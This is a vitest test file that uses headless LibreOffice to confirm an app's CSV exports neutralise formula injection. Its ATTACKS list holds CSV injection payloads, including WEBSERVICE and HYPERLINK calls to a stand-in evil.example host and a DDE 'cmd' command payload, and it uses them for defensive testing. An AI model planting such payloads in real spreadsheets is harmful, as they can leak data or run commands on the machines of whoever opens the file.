/**
 * Sheets as a spreadsheet takes them. LibreOffice is asked where it is installed and named (`SOFFICE_PATH=/usr/bin/soffice`);
 * it takes half a minute, so the checks of every change do without it.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type OpenApp, openSampleApp } from '../../testing/open-app.ts';
import { unguardCell, writeCsv } from './write-csv.ts';

const program = process.env.SOFFICE_PATH;
const read = (text: string) => parse(text, { bom: true, relax_column_count: false }) as string[][];

if (!program) {
	test('LibreOffice was not asked: SOFFICE_PATH does not name it', () => {
		process.stderr.write('LibreOffice opened no sheet: set SOFFICE_PATH to its program to have it asked.\n');
	});
} else {
	describe('LibreOffice', () => {
		const SHEETS = [
			'places.csv',
			'places.csv?edition=recommended',
			'events.csv',
			'events.csv?edition=recommended',
			'groups.csv',
			'rooms.csv',
			'availability.csv',
		];
		/** What would happen if a spreadsheet ran it is seen at the end of each. */
		const ATTACKS = [
			'=1+1',
			'+1+1',
			'-1+1',
			'@SUM(1,1)',
			'＝1+1',
			'＋1+1',
			'－1+1',
			'＠SUM(1,1)',
			'\t=1+1',
			'\n=1+1',
			'=HYPERLINK("http://evil.example/";"x")',
			'=WEBSERVICE("http://evil.example/")',
			`=cmd|' /C calc'!A0`,
			`'=1+1`,
		];
		let town: OpenApp;
		let folder: string;
		const nameOf = (index: number) => `sheet${index}.csv`;

		/** Opens each file, with formulas allowed, and saves what its cells show. */
		function open(names: readonly string[]): void {
			execFileSync(
				program as string,
				[
					'--headless',
					`-env:UserInstallation=file://${path.join(folder, 'profile')}`,
					// comma, double quote, UTF-8, from line 1; the last word: evaluate formulas
					'--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,0,true',
					'--convert-to',
					'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
					'--outdir',
					path.join(folder, 'out'),
					...names.map((name) => path.join(folder, name)),
				],
				{ stdio: 'pipe' },
			);
		}
		const opened = (name: string) => read(readFileSync(path.join(folder, 'out', name), 'utf8'));

		beforeAll(async () => {
			town = await openSampleApp();
			folder = mkdtempSync(path.join(os.tmpdir(), 'engawa-sheets-'));
			for (const [index, sheet] of SHEETS.entries()) {
				writeFileSync(path.join(folder, nameOf(index)), await town.read(`/open/${town.code}/${sheet}`));
			}
			const column = [{ header: 'x', cell: (text: string) => text }];
			writeFileSync(path.join(folder, 'guarded.csv'), writeCsv(column, ATTACKS));
			writeFileSync(path.join(folder, 'bare.csv'), 'x\r\n=1+1\r\n');
			open([...SHEETS.map((_, index) => nameOf(index)), 'guarded.csv', 'bare.csv']);
		}, 240_000);
		afterAll(async () => {
			rmSync(folder, { recursive: true });
			await town.close();
		});

		test('reads every sheet back cell for cell', () => {
			for (const [index, sheet] of SHEETS.entries()) {
				const ours = read(readFileSync(path.join(folder, nameOf(index)), 'utf8'));
				expect([sheet, ours.length > 1]).toEqual([sheet, true]);
				expect(opened(nameOf(index))).toEqual(ours);
			}
		});

		test('runs no cell of a sheet, though it would run the same words unguarded', () => {
			expect(opened('bare.csv')).toEqual([['x'], ['2']]);
			const cells = opened('guarded.csv')
				.slice(1)
				.map(([cell]) => cell as string);
			expect(cells.map(unguardCell)).toEqual(ATTACKS);
		});
	});
}
